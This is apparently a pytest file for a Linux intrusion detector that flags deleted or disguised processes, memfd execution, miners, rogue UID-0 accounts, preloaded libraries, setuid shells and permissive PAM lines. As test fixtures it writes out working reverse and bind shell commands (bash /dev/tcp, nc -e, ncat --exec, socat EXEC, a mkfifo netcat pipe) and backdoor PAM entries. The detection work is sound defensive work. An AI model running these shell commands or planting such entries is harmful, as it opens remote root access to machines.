"""Signs of malware on a Linux machine, and what only looks like one."""

# ruff: noqa: S108 - folders of temporary files are what is looked at

from __future__ import annotations

from typing import Any

import pytest
from hosts import MACHINE, bare, given

from techkit.host import ProbeError
from techkit.model import Gap, Reason
from techkit.readings.antivirus import intrusions
from techkit.readings.supplements import Supplements

GONE = ProbeError(Reason.MISSING, "gone")
ACCOUNTS = """\
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
alice:x:1000:1000::/home/alice:/bin/bash
sysadm:x:0:0::/root:/bin/bash
zero:x:00:0::/:/usr/sbin/nologin
+::0:0:::
-bob::0:0:::
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
"""


def process(exe: str | None, *argv: str, **more: Any) -> dict[str, Any]:
    name = (exe or "").rpartition("/")[2][:15]
    row = {"pid": 120, "ppid": 1, "name": name, "exe": exe, "deleted": False, "argv": [*argv], "uid": 0, "state": "S"}
    return row | {"cpu": 1.0, "rss": 4096, "started": 1_790_000_000.0, "threads": 1, "files": 3, "own": False} | more


@pytest.mark.parametrize(
    ("row", "sign"),
    [
        (process("/tmp/.x/kworkerds", "/tmp/.x/kworkerds", "9999", deleted=True), "deleted"),
        (process("/dev/shm/a", "./a", deleted=True), "deleted"),
        (process("/home/bob/.cache/kswapd0", "kswapd0", deleted=True), "deleted"),
        (process("/usr/bin/xx", "[kworker/0:2]", name="xx"), "disguised"),
        (process("/home/bob/.configrc/a/kswapd0", "kswapd0"), "disguised"),
        (process("/var/tmp/.cache/sshd", "sshd"), "hidden"),
        (process(None, "/tmp/.x/kworkerds", "9999", name="kworkerds"), "disguised"),  # of another account
        (process(None, "/tmp/.x/upd", name="upd"), "hidden"),
        (process("/usr/lib/.sys/upd", "upd"), "hidden"),
        (process("/var/www/.../x", "x"), "hidden"),
        (process("/usr/bin/python3.11", "python3", "-u", "/tmp/.p/c2.py"), "hidden"),
        (process("/memfd:x", "sshd", "9999", deleted=True), "memory"),
        (process("/memfd:runc_cloned:/proc/self/exe", "runc", "init", deleted=True), "memory"),
        (process("/opt/x/a", "a", "-o", "stratum+tcp://203.0.113.9:3333"), "miner"),
        (process("/usr/local/bin/xmrig", "xmrig"), "miner"),
        (process("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), "door"),
        (process("/usr/bin/nc.traditional", "nc", "-lvp", "4444", "-e", "/bin/sh"), "door"),
        (process("/usr/bin/ncat", "ncat", "-l", "4444", "--exec", "/bin/bash"), "door"),
        (process("/usr/bin/socat", "socat", "TCP-LISTEN:4444", "EXEC:/bin/bash,pty"), "door"),
    ],
)
def test_a_sign_is_seen(row: dict[str, Any], sign: str) -> None:
    found = intrusions.parse_process(row)
    assert found is not None
    assert found.sign == sign


@pytest.mark.parametrize(
    "row",
    [
        process(None, pid=2, ppid=0, name="kthreadd"),
        process(None, pid=31, ppid=2, name="kworker/0:1-events"),
        process(None, "/usr/sbin/cron", "-f", name="cron"),  # somebody else's, whose program file is shut to us
        process(None, "sshd: alice [priv]", name="sshd"),
        process("/usr/lib/systemd/systemd", "/sbin/init"),
        process("/usr/sbin/sshd", "sshd: alice", deleted=True),  # just updated
        process("/home/dev/.vscode-server/bin/abc/node", "node", deleted=True),
        process("/home/dev/.local/bin/tool", "tool"),
        process("/root/.acme.sh/acme.sh", "acme.sh"),
        process("/tmp/go-build3829/b001/exe/main", "main"),
        process("/tmp/go-build3829/b001/exe/main", "main", deleted=True),
        process("/tmp/.mount_ObsidiXYZ/obsidian", "obsidian"),
        process("/tmp/build/a.out", "./a.out"),
        process("/usr/bin/bash", "bash", "-c", "curl https://example.org/ | grep x"),
        process("/usr/bin/nc", "nc", "-zv", "db.example.org", "5432"),
        process("/usr/bin/nc", "nc", "-l", "9000"),
        process("/usr/bin/socat", "socat", "TCP-LISTEN:80", "TCP:10.0.0.2:80"),
        process("/usr/sbin/watchdog", "/usr/sbin/watchdog"),
        process("/usr/bin/python3.11", "[celeryd: worker1]"),
        process("/snap/firefox/1/usr/lib/firefox/firefox", "firefox"),
        process("/usr/bin/python3.11", "python3", "-c", "print(1)"),
    ],
)
def test_honest_programs_are_left_alone(row: dict[str, Any]) -> None:
    assert intrusions.parse_process(row) is None


def test_what_an_ordinary_user_cannot_see_is_counted() -> None:
    rows = [process(None, "sshd"), process(None, name="kworker/1"), process("/usr/bin/bash", "bash")]
    machine = MACHINE | {"elevated": False}
    assert seen({("processes",): rows, ("machine",): machine})[0] == ((), 1)
    assert seen({("processes",): rows})[0] == ((), 0)


COPY = "/memfd:runc_cloned:/proc/self/exe"
INSTALLED = {"kind": "file", "uid": 0, "mode": 0o755, "size": 9}


def seen(answers: dict[tuple[Any, ...], Any]) -> tuple[tuple[tuple[intrusions.Process, ...], int], tuple[Gap, ...]]:
    host = bare({("machine",): MACHINE, **answers})
    more = Supplements(host)
    return intrusions.processes(host, more), more.unseen


def in_memory(row: dict[str, Any], installed: dict[str, Any], **content: str) -> dict[tuple[Any, ...], Any]:
    parent = process("/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2", pid=90)
    names = {str(row["name"]), "runc", "x"}
    return {
        ("processes",): [parent, row | {"ppid": 90}],
        **{("which", name): "/usr/sbin/runc" if name == "runc" else None for name in names},
        ("stat", "/usr/sbin/runc"): installed,
        ("stat", "/proc/120/exe"): INSTALLED | {"mode": 0o777},
        **{("digest", path): found for path, found in content.items()},
    }


@pytest.mark.parametrize(
    ("row", "installed", "content", "signs"),
    [
        (process(COPY, "runc", "init"), INSTALLED, "aa", []),
        (process("/memfd:x", "/tmp/runc"), INSTALLED, "aa", []),
        (process(COPY, "runc", "init"), INSTALLED, "bb", ["memory"]),
        (process(COPY, "runc", "init"), INSTALLED | {"size": 8}, "aa", ["memory"]),
        (process(COPY, "runc", "init"), INSTALLED | {"uid": 1000}, "aa", ["memory"]),
        (process(COPY, "runc", "init"), INSTALLED | {"mode": 0o777}, "aa", ["memory"]),
        (process(COPY, "x", "-o", "stratum+tcp://203.0.113.9:3333"), INSTALLED, "aa", ["miner"]),
    ],
)
def test_a_program_in_memory_is_honest_only_as_a_copy_of_an_installed_one(
    row: dict[str, Any], installed: dict[str, Any], content: str, signs: list[str]
) -> None:
    (found, _), unseen = seen(in_memory(row, installed, **{"/proc/120/exe": content, "/usr/sbin/runc": "aa"}))
    assert ([one.sign for one in found], unseen) == (signs, ())


def test_a_copy_that_cannot_be_compared_is_told_and_one_that_has_ended_is_not() -> None:
    answers = in_memory(process(COPY, "runc", "init"), INSTALLED)
    late = answers | {("digest", "/proc/120/exe"): ProbeError(Reason.TIMEOUT)}
    assert seen(late) == (((), 0), (Gap("/proc/120/exe", Reason.TIMEOUT, question="digest"),))
    assert seen(answers | {("stat", "/proc/120/exe"): GONE}) == (((), 0), ())


def test_second_administrators() -> None:
    assert [(one.name, one.shell) for one in intrusions.parse_accounts(ACCOUNTS)] == [
        ("sysadm", "/bin/bash"),
        ("zero", "/usr/sbin/nologin"),
    ]


def test_homes_are_those_of_people_and_of_root() -> None:
    host = given({("read", "/etc/passwd"): ACCOUNTS})
    assert [home for _, home in intrusions.homes(host)] == ["/root", "/home/alice", "/root"]
    assert "alice" in {private.value for private in host.privates}


def preloads(answers: dict[tuple[Any, ...], Any]) -> tuple[tuple[intrusions.Preload, ...], tuple[Gap, ...]]:
    host = given(answers)
    more = Supplements(host)
    return intrusions.preloads(host, more), more.unseen


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("", []),
        ("# nothing\n", []),
        ("/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1\n", []),
        ("/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so\n", []),
        ("/$LIB/liboneagentproc.so\n", []),
        ("/usr/lib/libowned.so", []),
        ("/usr/lib/libgone.so", []),
        ("/usr/lib/libforeign.so # mine\n", [("/usr/lib/libforeign.so", "system")]),
        ("/tmp/a.so:/usr/lib/libowned.so\n", [("/tmp/a.so", "elsewhere")]),
        ("/usr/lib/.x/lib.so\n", [("/usr/lib/.x/lib.so", "elsewhere")]),
    ],
)
def test_preloaded_libraries_that_belong_to_nobody(text: str, found: list[tuple[str, str]]) -> None:
    there = {"kind": "file"}
    answers: dict[tuple[Any, ...], Any] = {("read", intrusions.PRELOAD): text, ("read", intrusions.ENVIRONMENT): ""}
    for path in ("/tmp/a.so", "/usr/lib/libforeign.so", "/usr/lib/libowned.so", "/usr/lib/.x/lib.so"):
        answers["stat", path] = there
    answers["stat", "/usr/lib/libgone.so"] = GONE
    for name in ("/usr/lib/libforeign.so", "/lib/libforeign.so", "/usr/lib/libowned.so"):
        answers["run", "dpkg-query", "-S", name] = {"code": 1, "out": "", "err": "no path found"}
        for tool in (("rpm", "-qf"), ("pacman", "-Qo"), ("apk", "info", "-W")):
            answers["run", *tool, name] = GONE
    answers["run", "dpkg-query", "-S", "/lib/libowned.so"] = {"code": 0, "out": "owned: /lib/libowned.so\n", "err": ""}
    assert [(one.path, one.place) for one in preloads(answers)[0]] == found


def test_without_a_package_database_nothing_is_said_against_a_library() -> None:
    answers: dict[tuple[Any, ...], Any] = {("read", intrusions.PRELOAD): "/usr/lib/a.so", ("stat", "/usr/lib/a.so"): {}}
    for command in intrusions.OWNERS:
        for name in ("/usr/lib/a.so", "/lib/a.so"):
            answers["run", *command, name] = GONE
    assert preloads(answers)[0] == ()


def test_a_file_of_libraries_that_is_shut_to_us_is_told() -> None:
    shut = ProbeError(Reason.FORBIDDEN)
    answers = {("read", intrusions.PRELOAD): "/tmp/a.so", ("read", intrusions.ENVIRONMENT): shut}
    found, unseen = preloads(answers | {("stat", "/tmp/a.so"): {}})
    assert ([one.path for one in found], unseen) == (
        ["/tmp/a.so"],
        (Gap(intrusions.ENVIRONMENT, Reason.FORBIDDEN, question="read"),),
    )


def test_programs_that_make_anybody_root() -> None:
    def entry(mode: int, uid: int = 0, kind: str = "file") -> dict[str, Any]:
        return {"kind": kind, "mode": mode, "uid": uid}

    answers: dict[tuple[Any, ...], Any] = {
        ("listdir", "/tmp"): [".b", "bob", "data", "folder", "shut"],
        ("stat", "/tmp/.b"): entry(0o4755),
        ("stat", "/tmp/bob"): entry(0o4755, 1000),
        ("stat", "/tmp/data"): entry(0o4644),
        ("stat", "/tmp/folder"): entry(0o4755, kind="folder"),
        ("stat", "/tmp/shut"): ProbeError(Reason.FORBIDDEN, "shut"),
    }
    assert intrusions.setuid(bare(answers)) == ("/tmp/.b",)


def test_shells_that_make_anybody_root_and_copies_of_them() -> None:
    def entry(mode: int, size: int) -> dict[str, Any]:
        return {"kind": "file", "mode": mode, "uid": 0, "size": size}

    answers: dict[tuple[Any, ...], Any] = {
        ("stat", "/usr/bin/bash"): entry(0o755, 1265648),
        ("stat", "/usr/bin/find"): entry(0o4755, 224848),
        ("listdir", "/usr/local/bin"): ["sysinfo", "slock", "bash"],
        ("stat", "/usr/local/bin/sysinfo"): entry(0o4755, 1265648),
        ("stat", "/usr/local/bin/slock"): entry(0o4755, 40000),
        ("stat", "/usr/local/bin/bash"): entry(0o755, 1265648),
    }
    assert intrusions.shells(bare(answers)) == ("/usr/bin/find", "/usr/local/bin/sysinfo")


def test_a_shell_by_a_pipe_is_a_door() -> None:
    line = "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc -l 4444 > /tmp/f"
    assert any(door.search(line) for door in intrusions.DOORS)
    assert not any(door.search("mkfifo q; tar c . | gzip > q") for door in intrusions.DOORS)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("auth sufficient pam_permit.so\nauth required pam_unix.so\n", "auth sufficient pam_permit.so"),
        (
            "auth [success=1] pam_unix.so\nauth requisite pam_deny.so\nauth required pam_permit.so\n",
            "",
        ),
        ("auth required pam_unix.so\nauth sufficient pam_permit.so\n", ""),
        ("account sufficient pam_permit.so\n", ""),
    ],
)
def test_a_line_that_accepts_every_password(text: str, found: str) -> None:
    assert intrusions.parse_pam(text) == found
